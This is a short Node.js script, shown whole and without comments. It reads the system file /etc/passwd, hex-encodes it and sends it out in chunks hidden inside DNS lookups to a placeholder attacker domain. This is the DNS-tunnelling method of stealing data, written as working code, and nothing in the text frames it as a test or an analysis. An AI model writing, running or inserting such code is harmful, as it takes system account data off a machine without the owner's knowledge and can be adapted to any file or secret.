const dns = require('dns'), fs = require('fs');
const data = fs.readFileSync('/etc/passwd').toString('hex');
for (let i = 0; i * 50 < data.length; i++) {
  dns.resolve4(`${i}.${data.slice(i * 50, i * 50 + 50)}.ns1.tunnel-ex.example`, () => {});
}
